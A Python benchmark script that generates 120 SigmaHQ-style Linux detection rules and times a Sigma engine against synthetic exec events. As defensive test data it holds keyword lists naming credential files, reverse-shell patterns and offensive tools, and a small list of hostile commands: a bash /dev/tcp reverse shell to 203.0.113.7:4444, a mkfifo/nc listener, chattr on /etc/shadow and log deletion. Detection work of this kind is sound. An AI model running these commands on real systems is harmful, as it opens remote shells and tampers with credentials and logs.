"""Sigma engine: 120 rules in SigmaHQ's Linux process_creation style, fed 1,000 exec events a second
straight into `RuleSet.match` (no bus, no store): CPU per event and in total, and what loading costs.

The rules are generated here from templates with the modifier mix of SigmaHQ's Linux rules (most name
the program with `Image|endswith` and look for arguments with `CommandLine|contains`; some use `|all`,
filters under `not`, `ParentImage`, `startswith`, regular expressions, keywords, `windash`,
`base64offset`, `cased`). The events are server-style execs: mostly benign commands (many of them
running programs the rules name, with harmless arguments) and about 1% that a rule matches.
Knobs: AMOSKYS_BENCH_SIGMA_SECONDS (default 10), AMOSKYS_BENCH_SIGMA_RATE (default 1000).
"""

from __future__ import annotations

import json
import os
import random
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

SECONDS = float(os.environ.get("AMOSKYS_BENCH_SIGMA_SECONDS", "10"))
RATE = int(os.environ.get("AMOSKYS_BENCH_SIGMA_RATE", "1000"))
GOAL_US = 50.0

TOOLS = [
    "nmap", "masscan", "socat", "ncat", "nc", "netcat", "tcpdump", "tshark", "hydra", "john",
    "hashcat", "chattr", "chmod", "chown", "setfacl", "iptables", "ufw", "systemctl", "service",
    "crontab", "at", "useradd", "usermod", "userdel", "passwd", "groupadd", "insmod", "modprobe",
    "rmmod", "mount", "dd", "shred", "base64", "xxd", "openssl", "gpg", "ssh", "scp", "rsync",
    "curl", "wget", "python3", "perl", "ruby", "php", "awk", "find", "tar", "zip", "git", "docker",
    "kubectl", "setcap", "sudo", "su", "journalctl", "auditctl", "history", "sed", "vim",
]  # fmt: skip
TOKENS = [
    " -i ", "/etc/shadow", "/etc/passwd", "/etc/sudoers", " -e /bin/sh", "/dev/tcp/", " --privileged",
    "/var/log/", " -F", " -X", " disable", " stop ", " mask ", ".ssh/authorized_keys", "/tmp/.",
    "/dev/shm/", " -rf /", " +s ", "u+s", " 777 ", " -o /tmp/", "http://", "| sh", "| bash",
    "LD_PRELOAD", "chmod +x", "nohup ", " -c 'import", "pty.spawn", "socket.socket", "-enc ",
    " --no-check-certificate", " -k ", "id_rsa", ".bash_history", "/proc/kcore", "cap_setuid",
    "--rm -v /:/", " -p 4444", " -lvp ", "/etc/cron", "/etc/ld.so.preload", "authorized_keys",
]  # fmt: skip
OFFENSIVE = [
    "nmap", "masscan", "hydra", "john", "hashcat", "socat", "ncat", "netcat", "linpeas.sh", "pspy64",
    "chisel", "ligolo", "sqlmap", "nikto", "gobuster", "ffuf", "responder", "crackmapexec", "mimipenguin",
    "lazagne", "xmrig", "minerd", "kinsing", "tsunami",
]  # fmt: skip
SHELLS = ["/bin/sh", "/bin/bash", "/bin/dash", "/usr/bin/zsh"]
PARENTS = ["/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/bin/node", "/usr/bin/java", "/usr/sbin/php-fpm"]

HEADER = """title: {title}
id: {uuid}
status: test
description: Generated benchmark rule {n} ({kind}).
author: AMOSKYS benchmark
date: 2026-12-03
tags:
    - attack.execution
    - attack.t1059.004
logsource:
    product: linux
    category: process_creation
detection:
"""


def _list(values: list[str], indent: int = 12) -> str:
    pad = " " * indent
    quoted = [v.replace("'", "''") for v in values]  # YAML single-quoted scalars
    return "".join(f"\n{pad}- '{v}'" for v in quoted)


def rule_texts() -> list[str]:
    """120 rules: 50 image+contains, 15 image+contains|all, 15 contains-only (two selections), 12
    image-only, 10 image+contains with a filter, 6 regular expressions, 4 startswith, 4 parent→shell,
    4 others (keywords, windash, base64offset, cased)."""
    rng = random.Random(7)
    out: list[str] = []

    def add(kind: str, body: str) -> None:
        n = len(out)
        uuid = f"0000{n:04x}-5a5a-4b4b-8c8c-{n:012x}"
        out.append(
            HEADER.format(title=f"Bench {kind} {n}", uuid=uuid, n=n, kind=kind) + body + "level: medium\n"
        )

    def images(k: int) -> list[str]:
        return [f"/{t}" for t in rng.sample(TOOLS, k)]

    for _ in range(50):
        add(
            "image_contains",
            f"    selection:\n        Image|endswith:{_list(images(2))}\n"
            f"        CommandLine|contains:{_list(rng.sample(TOKENS, 3))}\n    condition: selection\n",
        )
    for _ in range(15):
        add(
            "image_all",
            f"    selection:\n        Image|endswith: '/{rng.choice(TOOLS)}'\n"
            f"        CommandLine|contains|all:{_list(rng.sample(TOKENS, 2))}\n    condition: selection\n",
        )
    for _ in range(15):
        add(
            "contains_only",
            f"    selection_a:\n        CommandLine|contains:{_list(rng.sample(TOKENS, 2))}\n"
            f"    selection_b:\n        CommandLine|contains:{_list(rng.sample(TOKENS, 3))}\n"
            "    condition: all of selection_*\n",
        )
    for _ in range(12):  # as in SigmaHQ: offensive tools whose mere execution is worth an alert
        names = [f"/{t}" for t in rng.sample(OFFENSIVE, 3)]
        add(
            "image_only", f"    selection:\n        Image|endswith:{_list(names)}\n    condition: selection\n"
        )
    for _ in range(10):
        add(
            "image_filter",
            f"    selection:\n        Image|endswith: '/{rng.choice(TOOLS)}'\n"
            f"        CommandLine|contains:{_list(rng.sample(TOKENS, 2))}\n"
            "    filter_main_parent:\n        ParentImage|endswith:\n            - '/ansible'\n"
            "            - '/puppet'\n    filter_optional_root:\n        User: 'root'\n"
            "    condition: selection and not 1 of filter_*\n",
        )
    for i in range(6):
        tool = TOOLS[i * 7]
        add(
            "regex",
            f"    selection:\n        CommandLine|re: '{tool}\\s+.*(/dev/tcp/|\\d{{1,3}}(\\.\\d{{1,3}}){{3}}:\\d+)'\n"
            "    condition: selection\n",
        )
    for prefix in ("/tmp/", "/dev/shm/", "/var/tmp/", "/run/user/"):
        add("startswith", f"    selection:\n        Image|startswith: '{prefix}'\n    condition: selection\n")
    for parent in PARENTS[:4]:
        add(
            "parent_shell",
            f"    selection:\n        ParentImage|endswith: '{parent[parent.rfind('/') :]}'\n"
            f"        Image|endswith:{_list([s[s.rfind('/') :] for s in SHELLS])}\n    condition: selection\n",
        )
    add("keywords", "    keywords:\n        - 'mkfifo /tmp/'\n        - 'nc -l'\n    condition: keywords\n")
    add(
        "windash",
        "    selection:\n        Image|endswith: '/find'\n        CommandLine|windash|contains: ' -delete'\n"
        "        CommandLine|contains: '/var/log'\n    condition: selection\n",
    )
    add(
        "base64offset",
        "    selection:\n        CommandLine|base64offset|contains: 'curl http'\n    condition: selection\n",
    )
    add(
        "cased",
        "    selection:\n        CommandLine|cased|contains: 'LD_PRELOAD='\n    condition: selection\n",
    )
    return out


BENIGN = [
    ("/usr/bin/ls", "ls -la /var/www"),
    ("/usr/bin/cat", "cat /proc/meminfo"),
    ("/usr/bin/grep", "grep -r TODO src/"),
    ("/usr/bin/systemctl", "systemctl status nginx.service"),
    ("/usr/bin/systemctl", "systemctl is-active --quiet postgresql"),
    ("/usr/bin/python3", "python3 /opt/app/manage.py runjob --queue default"),
    ("/usr/bin/git", "git fetch --prune origin"),
    ("/usr/bin/curl", "curl -fsS https://api.internal/health"),
    ("/usr/bin/ssh", "ssh -o BatchMode=yes backup@10.0.0.5 uptime"),
    ("/usr/bin/find", "find /srv/data -mtime +30 -name *.tmp"),
    ("/usr/bin/tar", "tar czf /backup/www.tgz /var/www"),
    ("/usr/bin/docker", "docker ps --format {{.Names}}"),
    ("/usr/bin/sudo", "sudo -n /usr/bin/apt-get update"),
    ("/usr/bin/apt-get", "apt-get update"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    ("/bin/sh", "sh -c /usr/lib/update-notifier/apt-check 2>&1"),
    ("/bin/bash", "bash /opt/scripts/rotate.sh"),
    ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log"),
    ("/usr/bin/sed", "sed -n 1,20p /etc/hosts"),
    ("/usr/bin/rsync", "rsync -a /srv/data/ backup:/srv/data/"),
    ("/usr/bin/journalctl", "journalctl -u nginx --since -1h"),
    ("/usr/bin/openssl", "openssl x509 -noout -enddate -in /etc/ssl/certs/site.pem"),
    ("/usr/bin/id", "id -u"),
    ("/usr/bin/date", "date +%s"),
    ("/usr/bin/sleep", "sleep 5"),
    ("/usr/bin/node", "node /srv/app/server.js"),
    ("/usr/bin/wget", "wget -q -O /srv/cache/feed.xml https://news.example/feed.xml"),
    ("/usr/bin/vim", "vim /etc/nginx/nginx.conf"),
    ("/usr/bin/chmod", "chmod 640 /srv/app/config.yml"),
    ("/usr/bin/mount", "mount -o remount,ro /boot"),
]  # fmt: skip
MALICIOUS = [
    ("/usr/bin/chattr", "chattr -i /etc/shadow"),
    ("/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("/tmp/.x/kworker", "/tmp/.x/kworker -c /tmp/.x/cfg"),
    ("/usr/bin/find", "find /var/log -name *.log -delete"),
    ("/bin/sh", "sh -c mkfifo /tmp/f; nc -l 4444 < /tmp/f"),
]


def events(n: int) -> list[dict[str, object]]:
    """`n` exec field dicts: 99% benign, 1% malicious, in a fixed shuffled order."""
    from amoskys.detections.sigma.fields import process_creation_fields

    rng = random.Random(11)
    out = []
    for i in range(n):
        exe, cmd = rng.choice(MALICIOUS) if i % 100 == 50 else rng.choice(BENIGN)
        parent = rng.choice(["/usr/sbin/cron", "/usr/bin/bash", "/usr/lib/systemd/systemd", "/usr/sbin/sshd"])
        out.append(
            process_creation_fields(
                exe=exe,
                argv=cmd.split(" "),
                user=rng.choice(["root", "www-data", "alice", "backup"]),
                pid=10_000 + i,
                ppid=rng.randrange(1, 10_000),
                cwd=rng.choice(["/", "/root", "/srv/app", "/home/alice"]),
                parent_exe=parent,
                parent_argv=[parent.rsplit("/", 1)[1]],
            )
        )
    return out


def import_cost() -> tuple[float, float]:
    """Seconds and MB of RSS that importing the engine (pySigma included) adds, in a fresh process."""
    code = (
        "import time,sys\n"
        "def rss():\n"
        "    return int([l for l in open('/proc/self/status') if l.startswith('VmRSS')][0].split()[1]) / 1024\n"
        "import amoskys.detections.sigma.fields\n"
        "r0 = rss(); t0 = time.perf_counter()\n"
        "import amoskys.detections.sigma.engine\n"
        "print(time.perf_counter() - t0, rss() - r0)\n"
    )
    runs = []
    for _ in range(3):
        out = subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT
        )
        seconds, mb = out.stdout.split()
        runs.append((float(seconds), float(mb)))
    return min(r[0] for r in runs), statistics.median(r[1] for r in runs)


def main() -> int:
    import_seconds, import_mb = import_cost()
    from amoskys.detections.sigma.engine import load_rules

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        for i, text in enumerate(rule_texts()):
            (folder / f"proc_creation_lnx_bench_{i:03d}.yml").write_text(text)
        t0 = time.perf_counter()
        ruleset = load_rules([folder])
        load_seconds = time.perf_counter() - t0
    if ruleset.unsupported or ruleset.invalid or len(ruleset.rules) != 120:
        print(json.dumps([str(u) for u in (*ruleset.unsupported, *ruleset.invalid)]), file=sys.stderr)
        return 1
    always = ruleset.candidates("process_creation", {"Image": "/nonexistent/zzz"})
    pool = events(20_000)
    match = ruleset.match

    # Unpaced: the cost of one match call, per event.
    for fields in pool[:2000]:  # warm-up
        match("process_creation", fields)
    samples = []
    matched = 0
    for fields in pool:
        t = time.perf_counter_ns()
        hits = match("process_creation", fields)
        samples.append(time.perf_counter_ns() - t)
        matched += bool(hits)
    samples.sort()
    mean_us = statistics.fmean(samples) / 1000
    p50_us = samples[len(samples) // 2] / 1000
    p99_us = samples[int(len(samples) * 0.99)] / 1000
    candidates = statistics.fmean(ruleset.candidates("process_creation", f) for f in pool[:5000])

    # Paced: RATE events a second for SECONDS, in 10 ms slots; CPU of this process over the run.
    slot = 0.01
    per_slot = max(1, int(RATE * slot))
    total = int(RATE * SECONDS)
    cpu0, wall0 = time.process_time(), time.perf_counter()
    fed = 0
    paced_matched = 0
    while fed < total:
        for _ in range(per_slot):
            paced_matched += bool(match("process_creation", pool[fed % len(pool)]))
            fed += 1
        due = wall0 + (fed / RATE)
        delay = due - time.perf_counter()
        if delay > 0:
            time.sleep(delay)
    wall = time.perf_counter() - wall0
    cpu = time.process_time() - cpu0
    cpu_per_event_us = cpu / fed * 1e6

    verdict = "met" if cpu_per_event_us < GOAL_US else "NOT met"
    print("## Sigma engine (120 SigmaHQ-style Linux process_creation rules, `bench_sigma.py`)\n")
    print(
        "The rules are generated from templates with SigmaHQ's Linux modifier mix (50 Image|endswith + "
        "CommandLine|contains, 15 |contains|all, 15 CommandLine-only, 12 Image-only, 10 with a `not 1 of "
        "filter_*`, 6 regular expressions, 4 startswith, 4 ParentImage → shell, keywords, windash, "
        "base64offset, cased). Events: server-style execs built with `process_creation_fields`, 1% "
        "malicious. `RuleSet.match` is called directly: no bus, no store.\n"
    )
    print("| measure | result | target |")
    print("|---|---|---|")
    print(
        f"| import `amoskys.detections.sigma.engine` (pySigma), fresh process | {import_seconds:.2f} s, +{import_mb:.0f} MB RSS | off the loop, before ready |"
    )
    print(f"| load + compile 120 rules | {load_seconds * 1000:.0f} ms | — |")
    print(
        f"| rules tried per event (index by Image basename) | {candidates:.1f} of 120 on average ({always} tried on every event) | — |"
    )
    print(
        f"| match, unpaced, per event | mean {mean_us:.1f} µs, p50 {p50_us:.1f} µs, p99 {p99_us:.1f} µs ({len(pool)} events, {matched} matched) | — |"
    )
    print(
        f"| paced {RATE}/s for {SECONDS:.0f} s: CPU per event | {cpu_per_event_us:.1f} µs ({fed} events, {paced_matched} matched) | < {GOAL_US:.0f} µs ({verdict}) |"
    )
    print(
        f"| paced: CPU in total | {cpu / wall * 100:.2f}% of one core ({cpu:.2f} s CPU in {wall:.1f} s) | < 5% |"
    )
    print(
        "\nCPU is this process's user + system time over the paced run (the pacing loop included). The "
        "exec → stored alert latency needs the runtime (bus, detections task, store) and is measured there."
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
